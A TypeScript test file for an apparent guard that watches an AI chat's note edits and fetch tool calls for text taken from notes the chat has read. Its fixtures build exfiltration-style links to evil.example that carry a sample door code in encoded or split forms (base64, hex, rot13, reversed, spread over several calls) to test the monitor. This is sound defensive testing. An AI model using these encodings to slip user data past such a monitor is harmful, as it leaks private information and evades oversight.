/** What an address or an argument carries of what was read (rules 6.9): 24 characters in a row, plain or encoded. */
import { expectGrowthBelow } from 'obsidian-workbench/testing/cost';
import type { EntryBody } from '../../../../../src/core/session/entry';
import type { FileChange } from '../../../../../src/core/writing/changeset/changeset';
import {
  carriedText,
  findLeakedText,
  findLeakedTextInCall,
  findNewAddresses,
} from '../../../../../src/core/writing/guard/egress';
import { answer, entry, result, toolCall, user } from '../../../../support/entries';

const note = 'The rent is 900 and the door code is 4711, says Rui.';
const secret = 'The door code is 4711, says Rui.';
const shown = 'the door code is 4711, says rui.';
const carried = (outgoing: string, own: readonly string[] = []): string[] =>
  carriedText([outgoing], { read: [`# Home\n\n${note}\n`, 'Something else.'], own });

it.each([
  ['plain', secret],
  ['percent-encoded', encodeURIComponent(secret)],
  ['percent-encoded twice', encodeURIComponent(encodeURIComponent(secret))],
  ['with plus signs', secret.replaceAll(' ', '+')],
  ['in capitals', secret.toUpperCase()],
  ['over two lines', secret.replace(' code ', '\n code\t')],
  ['base64', Buffer.from(secret).toString('base64')],
  ['base64 for addresses', Buffer.from(secret).toString('base64url')],
  ['percent-encoded base64', encodeURIComponent(Buffer.from(secret).toString('base64'))],
  ['hexadecimal', Buffer.from(secret).toString('hex')],
])('finds text of a note that goes out %s', (_how, encoded) => {
  expect(carried(`evil.example/?q=${encoded}&x=1`)).toEqual([shown]);
});

it.each([
  ['23 characters', 'a/?q=' + encodeURIComponent('door code is 4711, says'), []],
  [
    '24 characters',
    'a/?q=' + encodeURIComponent('door code is 4711, says '.trimEnd() + ' r'),
    ['door code is 4711, says r'],
  ],
])('counts %s as 6.9 does', (_name, outgoing, expected) => {
  expect(carried(outgoing)).toEqual(expected);
});

it.each([
  ['other spaces and dashes', '\u2003\u2014'],
  ['marks of East Asian text', '\u3001\u3000'],
])('finds it with %s between its words', (_name, between) => {
  expect(carried(secret.replaceAll(' ', between))).toEqual([shown.slice(0, -1)]);
});

it('finds a passage wherever it begins', () => {
  for (let pad = 0; pad < 24; pad += 1) expect(carried(`${'x'.repeat(pad)}${secret.slice(4, 28)}`)).toHaveLength(1);
});

it('leaves the user’s own words alone', () => {
  expect(carried(`a/?q=${encodeURIComponent(secret)}`, [`Look up: ${note}`])).toEqual([]);
});

it.each(['https://example.org/a/b?c=d', '', '%', '%ff%fe%zz', '='.repeat(100), 'A'.repeat(10_000)])(
  'finds nothing in %j',
  (outgoing) => {
    expect(carried(outgoing)).toEqual([]);
  },
);

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const inPieces = (text: string, length: number): string[] => text.match(new RegExp(`.{1,${length}}`, 'gs')) ?? [];
const rotated = (text: string): string =>
  text.replace(/[a-z]/gi, (letter) => {
    const first = letter <= 'Z' ? 65 : 97;
    return String.fromCharCode(((letter.charCodeAt(0) - first + 13) % 26) + first);
  });

it.each([
  ['with dashes', secret.replace(/[^a-z0-9]+/gi, '-')],
  ['with underscores', secret.replace(/[^a-z0-9]+/gi, '_')],
  ['without blanks', secret.replace(/[^a-z0-9]+/gi, '')],
  ['with a dot behind each letter', [...secret].join('.')],
  ['in one path segment for each word', secret.split(' ').join('/')],
  ['reversed', encodeURIComponent([...secret].reverse().join(''))],
  ['in rot13', encodeURIComponent(rotated(secret))],
  ['as entities', [...secret].map((letter) => `&#${letter.charCodeAt(0)};`).join('')],
  ['as hexadecimal entities', [...secret].map((letter) => `&#x${letter.charCodeAt(0).toString(16)};`).join('')],
  ['as \\u escapes', [...secret].map((letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')],
  ['as all percent', [...secret].map((letter) => `%${letter.charCodeAt(0).toString(16)}`).join('')],
  ['in Base64 of UTF-16', Buffer.from(secret, 'utf16le').toString('base64')],
  ['in Base64 twice', base64(base64(secret))],
  ['in Base64 that is split', inPieces(base64(secret), 8).join('.')],
  ['in Base64 that is split by dashes', inPieces(base64(secret), 10).join('-')],
  ['in Base64 that is reversed', [...base64(secret)].reverse().join('')],
  ['in hexadecimal digits with colons', inPieces(Buffer.from(secret).toString('hex'), 2).join(':')],
  ['as character codes', [...secret].map((letter) => letter.charCodeAt(0)).join(',')],
])('finds text of a note that goes out %s', (_how, encoded) => {
  expect(carried(`evil.example/?q=${encoded}&x=1`).join(' ')).toContain('door code is 4711');
});

it.each([
  ['plain', 20, (text: string) => encodeURIComponent(text)],
  ['plain and short', 9, (text: string) => encodeURIComponent(text)],
  ['reversed', 18, (text: string) => encodeURIComponent([...text].reverse().join(''))],
])('finds a passage in pieces over several addresses, %s', (_how, length, encode) => {
  const addresses = inPieces(encode(secret), length).map((piece) => `evil.example/a.png?q=${piece}&x=1`);
  expect(carriedText(addresses, { read: [note], own: [] })).not.toEqual([]);
});

it('finds a passage in pieces of Base64 over several addresses', () => {
  const addresses = inPieces(base64(secret), 12).map((piece) => `evil.example/${piece}/a.png`);
  expect(carriedText(addresses, { read: [note], own: [] })).not.toEqual([]);
});

it('takes linear time over what goes out and what was read', async () => {
  const texts = (length: number) =>
    ['a', 'door code ', '%41', 'YWFh', '\\u0041', 'x1-'].map((piece) => piece.repeat(length / piece.length));
  for (const out of [0, 1, 2, 3, 4, 5]) {
    const run = (length: number) => () => {
      const [outgoing = '', read = ''] = [texts(length)[out], `${texts(length).join(' ')}`];
      return carriedText([outgoing], { read: [read], own: ['the user’s own'] });
    };
    await expectGrowthBelow(2.6, run(60_000), run(30_000));
  }
});

const changeTo = (text: string, more: Partial<FileChange> = {}): FileChange => ({
  ...{ id: 'c', from: null, to: 'A.md', base: null, text, calls: [{ id: 'k', tool: 'create_note', arguments: '{}' }] },
  ...{ taint: null },
  ...more,
});
const edited = (before: string, after: string): FileChange =>
  changeTo(after, { from: 'A.md', base: { hash: 'h', text: before } });
const readNote = (text: string, callId = 'r') => entry(result(callId, text));
const link = (text: string): string => `[x](https://evil.example/?q=${encodeURIComponent(text)})`;

/** Without the point, which is no part of an address that ends with it. */
const inLink = shown.slice(0, -1);

describe('what the new addresses of a change carry', () => {
  const asked = [entry(user('Go.')), entry(answer(toolCall('r'))), readNote(note)];

  it('is text of notes, wherever the chat read it', () => {
    const zone = (place: 'before' | 'after') =>
      entry({
        ...{ kind: 'turn-zone', before: [], after: [], mode: 'assistant', editor: null },
        [place]: [{ section: 's', text: note.replaceAll(' is ', ' &#105;s ') }],
      } as EntryBody);
    const addition = { kind: 'hook', source: 's', text: note } as const;
    const sources = [
      readNote(note),
      entry({ ...result('r', ''), additions: [addition] } as EntryBody),
      entry({ kind: 'hook-context', additions: [addition], reports: [] }),
      zone('before'),
      zone('after'),
    ];
    for (const source of sources) expect(findLeakedText(changeTo(link(secret)), [source])).toEqual([inLink]);
    for (const other of [entry(answer(note)), entry({ kind: 'title', title: note })])
      expect(findLeakedText(changeTo(link(secret)), [other])).toEqual([]);
  });

  it('is nothing for a deletion, for no address, and for one that the note had', () => {
    expect(findLeakedText(changeTo(link(secret), { to: null }), asked)).toEqual([]);
    expect(findLeakedText(changeTo(secret), asked)).toEqual([]);
    expect(findLeakedText(edited(link(secret), `${link(secret)} and more`), asked)).toEqual([]);
    expect(findLeakedText(edited(link('other'), link(secret)), asked)).toEqual([inLink]);
  });

  it.each([
    ['with one slash', 'https:/evil.example/?q='],
    ['without slashes', 'https:evil.example/?q='],
    ['with backslashes', 'HTTPS:\\evil.example/?q='],
    ['of 5,000 characters', `https://evil.example/${'x'.repeat(5_000)}`],
  ])('is found in an address %s, as a browser reads it', (_how, start) => {
    expect(findLeakedText(changeTo(`[x](<${start}${encodeURIComponent(secret)}>)`), asked)).not.toEqual([]);
  });

  it('is nothing for an address that was copied whole, from a note or from the user', () => {
    const [address, copied] = [link(secret).slice(4, -1), link(secret)];
    const before = [entry(user('Go.')), readNote(`${note} ${copied}`), entry(answer(toolCall('k')))];
    expect(findLeakedText(changeTo(copied), before)).toEqual([]);
    expect(findLeakedText(changeTo(copied), [entry(user(address)), readNote(note)])).toEqual([]);
    // What the chat read only after it began the change is its own text.
    const after = [entry(user('Go.')), readNote(note), entry(answer(toolCall('k'))), readNote(copied)];
    expect(findLeakedText(changeTo(copied), after)).toContain(inLink);
    expect(findLeakedText(changeTo(copied), [readNote(`${note} ${copied}`)])).toContain(inLink);
  });

  it('is not what the chat reads of its own writing', () => {
    const staged = entry({
      ...{ kind: 'changes-staged', changeset: 's', dropped: [] },
      changes: [
        {
          ...{ id: 'c', from: null, to: 'A.md', base: null, edits: null, taint: null },
          calls: [{ id: 'w', tool: 'create_note', arguments: '{}' }],
        },
      ],
    });
    expect(findLeakedText(changeTo(link(secret)), [readNote(note, 'w'), staged])).toEqual([]);
    expect(findLeakedText(changeTo(link(secret)), [readNote(note, 'x'), staged])).toEqual([inLink]);
  });

  it('may be in pieces over the calls of a turn, but not over those before the last message', () => {
    const piece = (at: number): string => `https://evil.example/a.png?q=${secret.slice(at * 11, at * 11 + 11)}&x=1`;
    const call = (id: string, at: number) =>
      entry(answer(toolCall(id, 'edit_note', JSON.stringify({ text: encodeURI(piece(at)) }))));
    const turn = [readNote(note), entry(user('Go.')), call('1', 0), call('2', 1)];
    const last = changeTo(encodeURI(piece(2)));
    expect(findLeakedText(last, turn)).not.toEqual([]);
    expect(findLeakedText(changeTo(last.text ?? ''), [...turn, entry(user('Go on.'))])).toEqual([]);
  });

  it('is looked for again once the chat goes on', () => {
    const change = changeTo(link(secret));
    const entries = [entry(user('Go.'))];
    expect(findLeakedText(change, entries)).toEqual([]);
    const found = findLeakedText(change, [...entries, readNote(note)]);
    expect(found).toEqual([inLink]);
  });
});

describe('new addresses', () => {
  it('are those that neither the note nor the user had before', () => {
    const entries = [entry(user('See https://mine.example/.')), readNote('https://read.example/')];
    const after = 'https://old.example/ https://mine.example/ https://read.example/ https://new.example/';
    const found = findNewAddresses(edited('https://old.example/', after), entries);
    expect(found.map((address) => address.replace(/\/$/, ''))).toEqual([
      ...['https://read.example', 'https://new.example'],
    ]);
    expect(findNewAddresses(changeTo(after, { to: null }), entries)).toEqual([]);
  });

  it('are not the user’s for being an option that the model offered, and neither is text of a note', () => {
    const asks = (option: string) => {
      const view = { kind: 'question', question: 'Which?', options: ['No', option], several: false } as const;
      return entry({ ...result('q', 'Asked.'), view } as EntryBody);
    };
    const entries = [entry(user('Go.')), asks('https://new.example/'), entry(user('https://new.example/'))];
    expect(findNewAddresses(changeTo('https://new.example/'), entries)).not.toEqual([]);
    const leaked = [readNote(note), asks(secret), entry(user(secret))];
    expect(findLeakedTextInCall(JSON.stringify({ query: secret }), leaked)).toEqual([shown]);
    expect(findLeakedTextInCall(JSON.stringify({ query: secret }), [...leaked, entry(user(note))])).toEqual([]);
  });

  it('are read in the escapes of YAML as well', () => {
    const escaped = 'cover: "https\\U0000003a//x.example/a"';
    expect(findNewAddresses(changeTo(escaped), [])).toContain('https://x.example/a');
    expect(findNewAddresses(edited('https://x.example/a', escaped), [])).toEqual([]);
  });
});

describe('what a call over the network carries', () => {
  const args = (value: unknown): string => JSON.stringify(value);

  it.each([
    ['in a value', args({ url: secret })],
    ['in a value within others', args({ list: [1, { deep: secret }] })],
    ['in a key', args({ [secret]: 1 })],
    ['in text that is no JSON', `{"url": ${secret}`],
    [
      'in escapes of JSON',
      `{"url": "${[...secret].map((each) => `\\u00${each.charCodeAt(0).toString(16)}`).join('')}"}`,
    ],
  ])('is found %s', (_where, written) => {
    const entries = [readNote(note), entry(user('Go.')), entry(answer(toolCall('f', 'fetch', written)))];
    expect(findLeakedTextInCall(written, entries)).toEqual([shown]);
    expect(findLeakedTextInCall(written, [entry(user(note))])).toEqual([]);
  });

  it('may be in pieces over calls of the same tool in the turn', () => {
    const calls = inPieces(secret, 11).map((piece) => args({ url: `evil.example/?q=${piece}&x=1` }));
    const made = (names: readonly string[]) =>
      calls.map((written, at) => entry(answer(toolCall(`${at}`, names[at], written))));
    const last = calls.at(-1) ?? '';
    const begun = [readNote(note), entry(user('Go.'))];
    expect(findLeakedTextInCall(last, [...begun, ...made(['fetch', 'fetch', 'fetch'])])).not.toEqual([]);
    expect(findLeakedTextInCall(last, [...begun, ...made(['other', 'other', 'fetch'])])).toEqual([]);
    const [first, ...others] = made(['fetch', 'fetch', 'fetch']);
    expect(findLeakedTextInCall(last, [readNote(note), first!, entry(user('Go.')), ...others])).toEqual([]);
  });
});

it('counts shared text from 24 characters on, or from 20 letters on where it is written otherwise', () => {
  const letters = note.replace(/[^a-z0-9]+/gi, '');
  expect(carried(letters.slice(6, 25))).toEqual([]);
  expect(carried(letters.slice(6, 26))).toHaveLength(1);
});

it('counts pieces from 14 letters on once they are 60 together', () => {
  const read = ['correcthorsebat', 'terystaplezebra', 'quickbrownfoxju', 'mpsoverlazydogs'];
  const pieces = (length: number, count: number) =>
    read.slice(0, count).map((piece, at) => `${piece.slice(0, length)}\u2014${at}\u2014${at}`);
  const from = { read: [read.join(' ')], own: [] };
  expect(carriedText(pieces(15, 4), from)).toHaveLength(4);
  expect(carriedText(pieces(14, 4), from)).toEqual([]);
  expect(carriedText(pieces(15, 3), from)).toEqual([]);
});

it('names at most five passages', () => {
  const passages = Array.from({ length: 7 }, (_, at) =>
    `passage number ${at} that is long enough`.replace(/ /g, `${at}`),
  );
  const found = carriedText([passages.join(' | ')], { read: passages.map((each) => `x ${each} y`), own: [] });
  expect(found).toHaveLength(5);
});

it('names at most five passages in pieces, too', () => {
  const read = [
    'correcthorsebat',
    'terystaplezebra',
    'quickbrownfoxju',
    'mpsoverlazydogs',
    'bluewhaleswimsb',
    'yeightships123x',
  ];
  const pieces = read.map((piece, at) => `${piece}\u2014${at}\u2014${at}`);
  expect(carriedText(pieces, { read: [read.join(' ')], own: [] })).toHaveLength(5);
});

describe('looks through', () => {
  const letters = 'thedoorcodeis4711say';
  const found = (...outgoing: string[]): boolean => carriedText(outgoing, { read: [note], own: [] }).length > 0;

  it('the first 400,000 characters of a text', () => {
    const ending = (at: number): string => `${'.'.repeat(at - 24)}${secret.slice(0, 24)}`;
    expect([found(ending(400_000)), found(ending(400_001))]).toEqual([true, false]);
  });

  it('the first 64,000 characters in other spellings, and twice as many of several texts', () => {
    const ending = (at: number): string => `${'.'.repeat(at - 20)}${letters}`;
    expect([found(ending(64_000)), found(ending(64_001))]).toEqual([true, false]);
    const before = `;${'.'.repeat(63_999)}`;
    expect([found(before, ending(63_999)), found(before, ending(64_000))]).toEqual([true, false]);
  });

  it('the first 64,000 characters of what pieces are together', () => {
    const pieces = (blanks: number): string[] => [
      `q1${'.'.repeat(blanks)}${letters.slice(0, 10)}`,
      `q1${letters.slice(10)}`,
    ];
    expect([found(...pieces(63_980)), found(...pieces(63_981))]).toEqual([true, false]);
  });

  it('the newest 2,000 addresses of a change, and 100 calls of a tool', () => {
    const others = (count: number): string[] => Array.from({ length: count }, (_, at) => `https://x.example/${at}`);
    const carries = (count: number): boolean =>
      findLeakedText(changeTo([link(secret), ...others(count)].join(' ')), [readNote(note)]).length > 0;
    expect([carries(1_999), carries(2_000)]).toEqual([true, false]);
    const called = (count: number): boolean => {
      const calls = [secret, ...others(count)].map((url) => JSON.stringify({ url }));
      const made = calls.map((written, at) => entry(answer(toolCall(`${at}`, 'fetch', written))));
      return findLeakedTextInCall(calls.at(-1) ?? '', [readNote(note), entry(user('Go.')), ...made]).length > 0;
    };
    expect([called(99), called(100)]).toEqual([true, false]);
  });
});
